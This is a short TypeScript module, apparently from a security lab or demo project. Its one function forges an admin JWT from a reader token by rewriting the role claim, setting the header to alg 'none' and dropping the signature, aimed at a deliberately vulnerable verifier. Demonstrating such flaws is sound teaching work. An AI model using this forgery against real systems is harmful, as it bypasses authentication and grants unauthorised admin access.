import { decodeSegment, encodeSegment } from './tokens'

/**
 * Turns a valid reader token into one that `VulnerableVerifier` accepts as an admin token:
 * the same claims with `role: "admin"`, under the header `{"alg":"none"}` and an empty
 * signature. The verifier looks `none` up in its algorithm table and checks nothing.
 */
export function forgeAdminToken(userToken: string): string {
  const [, payloadSegment] = userToken.split('.') as [string, string]
  // the payload is only base64url: anyone can read it, and change it
  const claims = decodeSegment(payloadSegment)
  const header = encodeSegment({ alg: 'none' })
  const payload = encodeSegment({ ...claims, role: 'admin' })
  return `${header}.${payload}.`
}
